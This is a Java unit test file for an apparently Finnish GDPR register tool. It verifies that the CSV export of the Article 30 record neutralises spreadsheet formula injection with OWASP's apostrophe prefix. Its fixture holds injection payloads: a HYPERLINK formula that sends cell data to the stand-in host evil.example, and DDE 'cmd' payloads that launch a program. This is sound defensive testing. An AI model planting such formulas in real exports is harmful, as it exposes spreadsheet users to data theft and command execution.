package fi.rekisteri.export.document;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import fi.rekisteri.core.Language;
import fi.rekisteri.core.Register;
import fi.rekisteri.core.compliance.DocumentType;
import fi.rekisteri.export.RegisterFormat;
import fi.rekisteri.export.RegisterReader;
import fi.rekisteri.export.TestRegisters;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The Art. 30 CSV never hands a spreadsheet a formula: OWASP's neutralising prefix on every risky cell. */
class CsvInjectionTest {

    /** Cells a spreadsheet would evaluate, in every column a register's text reaches. */
    private static final String HOSTILE = """
            key: hostile
            name: {fi: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Klikkaa\\")"}
            controller: {name: "+cmd|' /C calc'!A0", email: a@example.fi}
            dataProtectionOfficer: {name: "@SUM(1+1)*cmd|' /C calc'!A0", email: dpo@example.fi}
            subjectCategories:
              - {key: customer, name: {fi: "-2+3+cmd|' /C calc'!A0"}}
            dataCategories:
              - {key: contact, name: {fi: "=1+1"}}
            purposes:
              - {key: billing, name: {fi: "\\t=1+1"}, legalBasis: contract, categories: [contact]}
              - {key: support, name: {fi: "\\r=1+1"}, legalBasis: contract}
              - {key: plain, name: {fi: "Laskutus = 1 + 1"}, legalBasis: contract}
            disclosures:
              - {key: tax, recipient: {fi: "@Verohallinto"}, categories: [contact]}
            """;

    private static List<CSVRecord> read(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().get().parse(new StringReader(csv)).getRecords();
    }

    private static String written(Register register) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        DocumentFormat.CSV.write(DocumentSource.of(register, DocumentType.ART_30_RECORD, Language.FI), out);
        return out.toString(StandardCharsets.UTF_8);
    }

    private static void assertNoCellStartsAFormula(List<CSVRecord> records) {
        int cells = 0;
        for (CSVRecord record : records) {
            for (String cell : record) {
                cells++;
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
                        "cell " + cell + " in " + record);
            }
        }
        assertTrue(cells > 0);
    }

    @Test
    void noCellOfAHostileRegisterStartsAFormula() throws IOException {
        Register register = RegisterReader.create().read(HOSTILE, "hostile.yaml", RegisterFormat.YAML);
        List<CSVRecord> records = read(written(register));
        assertEquals(1 + 3, records.size(), "a header and a row per purpose");
        assertNoCellStartsAFormula(records);
        CSVRecord billing = records.get(1);
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikkaa\")", billing.get(0),
                "the prefix, then the text as written; Commons CSV quotes it");
        assertEquals("'\t=1+1", billing.get(4));
        assertEquals("'=1+1", billing.get(7));
        assertEquals("'\r=1+1", records.get(2).get(4));
        assertEquals("Laskutus = 1 + 1", records.get(3).get(4), "a cell that does not start a formula is as it was");
    }

    @Test
    void everyCellOfTheTestRegistersIsSafeToo() throws IOException {
        for (Register register : List.of(TestRegisters.maximal(), TestRegisters.alternatives(), TestRegisters.seed(),
                TestRegisters.parties())) {
            assertNoCellStartsAFormula(read(written(register)));
        }
    }

    @Test
    void theNeutralisingPrefixIsOwaspsList() {
        List<String> prefixed = new ArrayList<>();
        for (String cell : List.of("=A1", "+1", "-1", "@A1", "\tx", "\rx", "x=1", "", " =1", "'=1", "1")) {
            if (!Art30Table.neutralised(cell).equals(cell)) {
                prefixed.add(cell);
                assertEquals("'" + cell, Art30Table.neutralised(cell));
            }
        }
        assertEquals(List.of("=A1", "+1", "-1", "@A1", "\tx", "\rx"), prefixed);
    }

    @Test
    void csvWritesOnlyTheArt30Record() {
        assertEquals(java.util.Set.of(DocumentType.ART_30_RECORD), DocumentFormat.CSV.documentTypes());
        IllegalArgumentException e = org.junit.jupiter.api.Assertions.assertThrows(IllegalArgumentException.class,
                () -> written(TestRegisters.seed(), DocumentType.ART_13_NOTICE));
        assertEquals("csv writes art30 only, not art13", e.getMessage());
    }

    private static String written(Register register, DocumentType type) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        DocumentFormat.CSV.write(DocumentSource.of(register, type, Language.FI), out);
        return out.toString(StandardCharsets.UTF_8);
    }
}
